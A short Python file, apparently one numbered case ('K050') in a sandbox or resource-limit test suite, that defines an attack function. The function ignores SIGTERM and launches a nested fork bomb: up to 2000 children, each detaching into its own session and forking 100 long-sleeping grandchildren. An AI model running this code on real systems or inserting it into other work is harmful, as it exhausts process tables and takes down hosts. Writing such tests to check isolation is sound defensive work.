"""K050: fork, and fork from the forks, with signals ignored and sessions of their own."""

import os
import signal
import time


def attack(canary):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for _ in range(2000):
        try:
            if os.fork() == 0:
                os.setsid()
                for _ in range(100):
                    try:
                        if os.fork() == 0:
                            time.sleep(600)
                    except OSError:
                        time.sleep(600)
                time.sleep(600)
        except OSError:
            return []
    return ["no end of processes"]
